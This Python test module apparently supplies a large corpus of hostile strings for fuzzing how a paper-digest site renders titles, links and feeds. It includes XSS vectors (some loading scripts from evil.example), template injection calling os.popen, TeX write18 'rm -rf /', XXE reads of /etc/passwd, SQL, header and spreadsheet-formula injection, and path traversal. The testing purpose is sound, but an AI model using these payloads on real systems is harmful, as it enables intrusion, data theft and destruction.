"""What people who mean harm, and machines that mean nothing, write where a title should stand."""

from __future__ import annotations

from functools import cache
from random import Random

CANARY = "digestcanary"  # what a string that comes alive would call

_SCRIPTS = """<script>digestcanary()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=//evil.example/x.js></script>
<script\x20type="text/javascript">digestcanary()</script>
<scr<script>ipt>digestcanary()</scr</script>ipt>
<<script>digestcanary();//<</script>
</script><script>digestcanary()</script>
</title><script>digestcanary()</script>
</style><script>digestcanary()</script>
</textarea><script>digestcanary()</script>
</noscript><script>digestcanary()</script>
--><script>digestcanary()</script>
]]><script>digestcanary()</script>
<!--><script>digestcanary()</script>-->
<![CDATA[<script>digestcanary()</script>]]>
<script src="data:text/javascript,digestcanary()"></script>
<script>/*
<script>
<script
&lt;script&gt;digestcanary()&lt;/script&gt;
&amp;lt;script&amp;gt;digestcanary()&amp;lt;/script&amp;gt;
&amp;amp;lt;script&amp;amp;gt;digestcanary()&amp;amp;lt;/script&amp;amp;gt;
&#60;script&#62;digestcanary()&#60;/script&#62;
&#x3c;script&#x3e;digestcanary()&#x3c;/script&#x3e;
&#0000060script&#0000062digestcanary()
\\u003cscript\\u003edigestcanary()\\u003c/script\\u003e
\\x3cscript\\x3edigestcanary()
%3Cscript%3Edigestcanary()%3C/script%3E
+ADw-script+AD4-digestcanary()+ADw-/script+AD4-
＜script＞digestcanary()＜/script＞
<ſcript>digestcanary()</ſcript>
<script charset="utf-7">+ADw-x
<sCrIpT>digestcanary()</sCrIpT>
<script>digestcanary`1`</script>
<script>import("//evil.example/x.js")</script>
<noscript><p title="</noscript><script>digestcanary()</script>">
<template><script>digestcanary()</script></template>
<xmp><script>digestcanary()</script></xmp>
<plaintext>
<listing>&lt;script&gt;digestcanary()&lt;/script&gt;</listing>"""

_HANDLERS = """<img src=x onerror=digestcanary()>
<img src=x:x onerror="digestcanary()">
<img/src/onerror=digestcanary()>
<IMG \"\"\"><SCRIPT>digestcanary()</SCRIPT>">
<img src=x onerror=&#100;igestcanary()>
<img src="x` `<script>digestcanary()</script>"` `>
<body onload=digestcanary()>
<body/onpageshow=digestcanary()>
<svg onload=digestcanary()>
<svg/onload=digestcanary()>
<details open ontoggle=digestcanary()>
<input autofocus onfocus=digestcanary()>
<select autofocus onfocus=digestcanary()>
<textarea autofocus onfocus=digestcanary()>
<video><source onerror="digestcanary()">
<audio src=x onerror=digestcanary()>
<marquee onstart=digestcanary()>
<div onpointerover=digestcanary()>over</div>
<p onclick = digestcanary()>p</p>
<a onmouseover=digestcanary()>a</a>
<b onfocus=digestcanary() tabindex=1 autofocus>b</b>
<xss contenteditable onbeforeinput=digestcanary()>test
<object data=x onerror=digestcanary()>
<iframe onload=digestcanary()></iframe>
<iframe srcdoc="<script>digestcanary()</script>"></iframe>
<img srcset="x" onerror=digestcanary()>
<style onload=digestcanary()></style>
<link rel=stylesheet href=//evil.example/x.css onload=digestcanary()>
<meta http-equiv=refresh content="0;url=javascript:digestcanary()">
<base href=//evil.example/>
<base href="javascript:/a/-digestcanary()///////">
<form action=javascript:digestcanary()><button>go</button></form>
<button formaction=javascript:digestcanary()>go</button>
<isindex action=javascript:digestcanary() type=submit>
<keygen autofocus onfocus=digestcanary()>
<embed src=javascript:digestcanary()>
<object data="data:text/html,<script>digestcanary()</script>"></object>
<applet code=x></applet>
<frameset onload=digestcanary()><frame src=//evil.example></frameset>
<table background="javascript:digestcanary()">
<td style="width:expression(digestcanary())">
<div style="background:url(javascript:digestcanary())">
<div style="position:fixed;inset:0">covers all</div>
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example/)}</style>
<dialog open onclose=digestcanary()>
<a href="#" onclick\t=\x0c"digestcanary()">a</a>
" onmouseover="digestcanary()
' onmouseover='digestcanary()
` onmouseover=`digestcanary()
" autofocus onfocus=digestcanary() x="
'><img src=x onerror=digestcanary()>
"><img src=x onerror=digestcanary()>
x" style="animation-name:x" onanimationstart="digestcanary()
\x00"><img src=x onerror=digestcanary()>
<a title="a&quot; onclick=&quot;digestcanary()">a</a>
<img src=x title="&lt;/title&gt;&lt;img src onerror=digestcanary()&gt;">
<input type=hidden name=topic value=x>
<input type=image src=//evil.example/x.png>
<img src=//evil.example/pixel.gif width=1 height=1>"""

_LINKS = """<a href="javascript:digestcanary()">a</a>
<a href=javascript&colon;digestcanary()>a</a>
<a href="java\tscript:digestcanary()">a</a>
<a href="java&Tab;script:digestcanary()">a</a>
<a href="java&NewLine;script:digestcanary()">a</a>
<a href=" \x01javascript:digestcanary()">a</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;digestcanary()">a</a>
<a href="JaVaScRiPt:digestcanary()">a</a>
<a href="javascript://%0adigestcanary()">a</a>
<a href="data:text/html,<script>digestcanary()</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5kaWdlc3RjYW5hcnkoKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="view-source:javascript:digestcanary()">a</a>
<a href="blob:https://evil.example/1">a</a>
<a href="file:///etc/passwd">a</a>
<a href="filesystem:https://evil.example/x">a</a>
<a href=//evil.example target=_blank>a</a>
<a href="\\\\evil.example\\x">a</a>
<a ping=//evil.example href=https://ok.example>a</a>"""

# Addresses; they stand in link fields, and as titles too.
_ADDRESSES = """javascript:digestcanary()
JAVASCRIPT:digestcanary()
java\tscript:digestcanary()
\x01javascript:digestcanary()
 javascript:digestcanary()
\u00a0javascript:digestcanary()
javascript&colon;digestcanary()
javascript&#58;digestcanary()
javascript%3Adigestcanary()
javascript://example.org/%0adigestcanary()
javascript://https://example.org/?%0adigestcanary()
feed:javascript:digestcanary()
jar:javascript:digestcanary()!/
data:text/html,<script>digestcanary()</script>
data:text/html;base64,PHNjcmlwdD5kaWdlc3RjYW5hcnkoKTwvc2NyaXB0Pg==
DATA:image/svg+xml,<svg onload=digestcanary()>
vbscript:msgbox(1)
livescript:digestcanary()
mocha:digestcanary()
file:///etc/passwd
file://evil.example/share
ftp://evil.example/x
gopher://evil.example/
about:blank
blob:https://evil.example/1
ms-msdt:/id
mailto:everyone@victim.example?bcc=all@victim.example
tel:+1234
//evil.example/x
\\\\evil.example\\x
/\\evil.example
https:evil.example
https:/evil.example
https:///evil.example
https:\\\\evil.example
http://
http:///
https://user:password@evil.example/
https://example.org@evil.example/
https://evil.example\\@example.org/
https://example.org%00.evil.example/
https://example.org/"onmouseover="digestcanary()
https://example.org/'onmouseover='digestcanary()
https://example.org/><script>digestcanary()</script>
https://example.org/<img src=x onerror=digestcanary()>
https://example.org/%22%3E%3Cscript%3E
https://example.org/\u202egnp.exe
https://ex\u200bample.org/
https://\u0430pple.example/
https://[::1]/
https://[::ffff:127.0.0.1
http://127.0.0.1:631/
http://0x7f000001/
http://2130706433/
https://example.org:99999/
https://example.org/\x00x
https://example.org/#javascript:digestcanary()
https://example.org/?q={{7*7}}
https://example.org/${7*7}
https://example.org/../../../../etc/passwd
https://example.org/]]>
https://example.org/&quot;&gt;
?javascript:digestcanary()
#javascript:digestcanary()
https://example.org/%
https://\ud800.example/
https://."""
ADDRESSES = (
    *_ADDRESSES.split("\n"),
    "java\nscript:digestcanary()",
    "java\r\nscript:digestcanary()",
    "https://example.org/\r\nSet-Cookie: a=b",
)

_FOREIGN = """<svg><script>digestcanary()</script></svg>
<svg><script xlink:href=data:,digestcanary()></script></svg>
<svg><a xlink:href="javascript:digestcanary()"><text y=20>a</text></a></svg>
<svg><animate onbegin=digestcanary() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:digestcanary()>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>digestcanary()</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>digestcanary()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=digestcanary()></style></svg>
<svg><title><script>digestcanary()</script></title></svg>
<svg><desc><![CDATA[</desc><script>digestcanary()</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=digestcanary()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=digestcanary()&gt;">
<math><mi//xlink:href="data:x,<script>digestcanary()</script>">
<math href="javascript:digestcanary()">CLICK</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:digestcanary()">a</maction></math>
<math><annotation-xml encoding="text/html"><script>digestcanary()</script></annotation-xml></math>
<math><semantics><annotation-xml><svg><script>digestcanary()</script></svg></annotation-xml></semantics></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=digestcanary()>
<mml:math><mml:mi href="javascript:digestcanary()">x</mml:mi></mml:math>
<jats:p><jats:ext-link xlink:href="javascript:digestcanary()">a</jats:ext-link></jats:p>
<?xml-stylesheet href="javascript:digestcanary()"?>
<?php echo 7*7 ?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<!DOCTYPE html><html><body><h1>Another page</h1></body></html>
<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;
&xxe; &e; &nbsp &unknown; &#x0; &#xD800; &#x110000; &#1;
<x xmlns="http://www.w3.org/1999/xhtml"><script>digestcanary()</script></x>
<xsl:value-of select="system-property('xsl:vendor')"/>
<xi:include href="file:///etc/passwd" parse="text"/>
<item><title>Another item</title><guid>other</guid></item>
</item></channel></rss>
</content></entry><entry><id>tag:evil</id></entry>
</loc></url><url><loc>https://evil.example/</loc></url>
<outline xmlUrl="https://evil.example/"/>
<media:thumbnail url="https://evil.example/pixel.gif"/>
<enclosure url="https://evil.example/x.exe" type="x/x"/>
<atom:link rel="self" href="https://evil.example/"/>"""

_TEMPLATES = """{{ 7*7 }}
{{7*'7'}}
{{ config }}
{{ self.__init__.__globals__.__builtins__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__ }}
{{ request|attr('application') }}
{{ namespace() }} {{ range(10**9)|list }}
{% raw %}
{% endraw %}{{ 7*7 }}
{% include '/etc/passwd' %}
{% extends 'archive/base.html' %}
{% import 'os' as os %}
{% for x in range(10**9) %}x{% endfor %}
{% block body %}{% endblock %}
{% macro paper_article() %}{% endmacro %}
{# never closed
{{
}}
{%
%}
{{ "%s" % self }}
${7*7}
${{7*7}}
#{7*7}
#set($x=7*7)$x
*{7*7}
@(7*7)
<%= 7*7 %>
<% 7*7 %>
<#assign x=7*7>${x}
[[7*7]]
{php}echo 7*7;{/php}
$(id)
`id`
; id;
| id
&& id
%s%s%s%n %(title)s {0} {title} {0.__class__}
\\N{BULLET} \\u0041 \\x41 \\101
$title ${title} $$
{{ paper.title }}{{ edition }}
%%unsubscribe%% *|UNSUB|* [[unsubscribe]] {unsubscribe}
\ufdd0address\ufdd1 \ufdd2unsubscribe\ufdd3 \ufdd1\ufdd0"""

_TEX = """$\\href{javascript:digestcanary()}{x}$
\\href{javascript:digestcanary()}{x}
\\url{javascript:digestcanary()}
$x<y>z$ and $a</code><script>digestcanary()</script>$
$\\unicode{<img src=1 onerror=digestcanary()>}$
$\\require{action}\\toggle{x}{y}\\endtoggle$
$\\style{background:url(//evil.example/)}{x}$
\\input{/etc/passwd}
\\write18{id}
\\immediate\\write18{rm -rf /}
\\def\\x{\\x\\x}\\x
$ unbalanced {{{{{{{{
$$$$$$$$$
\\begin{equation
\\end{document}
}}}}}}}}} ]]]]]]] )))))
\\(\\(\\(\\( \\)
{\\em never closed
\\emph{\\emph{\\emph{\\emph{
$\\frac{\\frac{\\frac{
\\" \\' \\` \\^ \\~ \\= \\.
\\
$$\\sum_{i=0}^{<b>n</b>}$$
@article{x, title = {y}} @comment{
}, author = {Evil}, note = {
"} # "x" # {
ER  - ""
TY  - JOUR
 ER - \\nTI  - another
\\textcolor{red}{\\footnote{\\footnote{x}}}
$\\mathrm{</title>}$ \\% \\& \\# \\_ \\{ \\}"""

_HEADERS = (
    "Title\r\nBcc: everyone@victim.example",
    "Title\nBcc: everyone@victim.example",
    "Title\rBcc: everyone@victim.example",
    "Title\r\n\r\n<script>digestcanary()</script>",
    "Title\x0bBcc: x",
    "Title\x0cBcc: x",
    "Title\x85Bcc: x",
    "Title\u2028Bcc: x",
    "Title\u2029Bcc: x",
    "Title%0d%0aBcc: everyone@victim.example",
    "Title\\r\\nBcc: x",
    "=?utf-8?q?=0d=0aBcc:_x?=",
    "=?utf-8?b?DQpCY2M6IHg=?=",
    "\r\n.\r\nQUIT\r\n",
    "\n.\n",
    ".\r\n",
    "From here",
    "\nFrom there\n",
    "--=_boundary--",
    "\r\nContent-Type: text/html\r\n\r\n<script>digestcanary()</script>",
    "Set-Cookie: a=b\r\n",
    "\r\nLocation: //evil.example",
    "Title\u560d\u560aBcc: x",
    "begin 644 x",
    "> quoted",
    "-- ",
    "Re: Fwd: Title",
)

PATHS = (
    "../../../../etc/passwd",
    "..",
    ".",
    "../",
    "..\\..\\windows",
    "/etc/passwd",
    "~/x",
    "%2e%2e%2f%2e%2e%2f",
    "..%c0%af..",
    "....//....//",
    "..;/",
    "con",
    "nul",
    "aux.html",
    "com1",
    "index.html",
    "rss.xml",
    "robots.txt",
    ".htaccess",
    ".git/config",
    "a/b/c",
    "a\\b\\c",
    "a\x00b",
    "\x00",
    "C:\\x",
    "file.html\x00.png",
    "x" * 300,
    "\u2025/\u2025",
    "\uff0e\uff0e\uff0fx",
    "\u2024\u2024/x",
    "-rf",
    "--help",
    "*",
    "?",
    "|x",
    "a:b",
    "a..b",
    ". .",
    "...",
    " .. ",
    "\u202e..",
    "2026/11/19",
    "papers",
    "search/index.json",
    "topics/../../x",
    "a%",
    "a#b?c",
)

_LETTERS = (
    "\u202eturned around",
    "\u202d\u202a\u202b\u202c",
    "\u2066\u2067\u2068\u2069",
    "a\u2067b\u202ec never closed",
    "\u2069\u2069\u2069 closed too often",
    "control \x00\x01\x02\x03\x04\x05\x06\x07\x08 letters",
    "\x0e\x0f\x10\x11\x1a\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\",
    "\x7f\x80\x9b31m\x9f",
    "a lone \ud800 surrogate",
    "\udfff\ud800",
    "\udc80\udcff",
    "\ufffe\uffff\ufdd0\ufdef",
    "\U0001ffff\U0010ffff",
    "\ufeff\u200b\u200c\u200d\u2060",
    "\u00ad\u034f\u061c\u115f\u3164\uffa0",
    "\U000e0041\U000e007f",
    "e" + "\u0301" * 400,
    "Z\u0351\u036b\u0343\u036a" * 60,
    "\u0000" * 50,
    "W" * 142,
    "W" * 10_000,
    "word " * 2_000,
    "<b>" * 3_000,
    "<" * 10_000,
    "&" * 10_000,
    "&amp;" * 2_000,
    "&lt;" * 2_500,
    "'\"" * 5_000,
    "{{" * 5_000,
    "$" * 10_000,
    "\\" * 10_000,
    "(" * 10_000,
    "漢" * 10_000,
    "أ" * 10_000,
    "🦉" * 5_000,
    "👩‍🔬" * 900,
    "\u200b" * 9_999,
    " " * 10_000 + "x",
    "\n" * 5_000 + "x",
    "-" * 10_000,
    "http://" * 1_500,
    "",
    " ",
    "\t",
    "\u3000",
    ".",
    "0",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "-1",
    "1e999",
    "' OR '1'='1",
    "'; DROP TABLE papers; --",
    '" OR ""="',
    "NEAR(a b)",
    "a AND OR NOT",
    "title:",
    "author:",
    "*",
    '"',
    '"unclosed',
    "a*b*",
    "-",
    "--",
    "- -",
    "^a",
    "a:b:c",
    "date:0000",
    "date:..",
    "(a",
    ")",
    "ﬀﬁ ſ K Å",
    "İıẞß",
    "＜ｂ＞",
    "〈b〉",
    "‹b›",
    "Ⅷ²①",
    "٣٤٥",
    "אבג <b>דהו</b>",
    "مرحبا <script>digestcanary()</script>",
    "表 ソ 十 \\",
    "¼ script ¾digestcanary()¼/script¾",
    "\xc0\xbcscript",
    "%u003Cscript%u003E",
    "\\74script\\76",
    "&#8238;gpj.exe",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "\u2800",
    "\u180e",
    "\uff1cscript\uff1e",
)

WORDS: tuple[str, ...] = (
    *_SCRIPTS.split("\n"), *_HANDLERS.split("\n"), *_LINKS.split("\n"), *_FOREIGN.split("\n"), *_TEMPLATES.split("\n"),
    *_TEX.split("\n"), *_HEADERS, *PATHS, *_LETTERS,
)  # fmt: skip


@cache
def hostile_words(count: int = 0) -> tuple[str, ...]:
    """All that are written here and, where that is fewer than `count`, changed and joined ones; each once, always the same."""
    dice = Random(1492)
    found = dict.fromkeys((*WORDS, *ADDRESSES))
    known = tuple(found)
    while len(found) < count:
        found[_changed(dice.choice(known), dice.choice(known), dice)] = None
    return tuple(found)


def some_words(count: int) -> tuple[str, ...]:
    """As many of them, of every kind some."""
    every = hostile_words()
    return tuple(every[n * len(every) // count] for n in range(count))


def _changed(word: str, other: str, dice: Random) -> str:
    word, other = word[:2_000], other[:2_000]
    at, cut = dice.randrange(len(word) + 1), dice.randrange(len(other) + 1)
    return dice.choice(
        (
            lambda: f"{word[:at]}{other}{word[at:]}",
            lambda: f"{word}{other}",
            lambda: f"{word[:at]}{other[cut:]}",
            lambda: f"A study of {word} and of {other[cut:]}",
            lambda: "".join(letter.swapcase() if dice.random() < 0.5 else letter for letter in word) + other[:cut],
            lambda: f"{word[:at]}{chr(dice.randrange(32))}{word[at:]}{other[:cut]}",
            lambda: f"{word[:at]}{chr(dice.randrange(0x80, 0x3000))}{word[at:]}",
            lambda: "".join(f"&#{ord(letter)};" if dice.random() < 0.3 else letter for letter in word),
            lambda: word.replace(" ", dice.choice(("/", "\t", "\n", "\x0c", "\u00a0", "\x00"))) + other[:cut],
            lambda: f"{word[at:]}{word[:at]}",
            lambda: f'"{word}">{other}',
            lambda: f"${word}$ {other[:cut]}",
        )
    )()  # fmt: skip
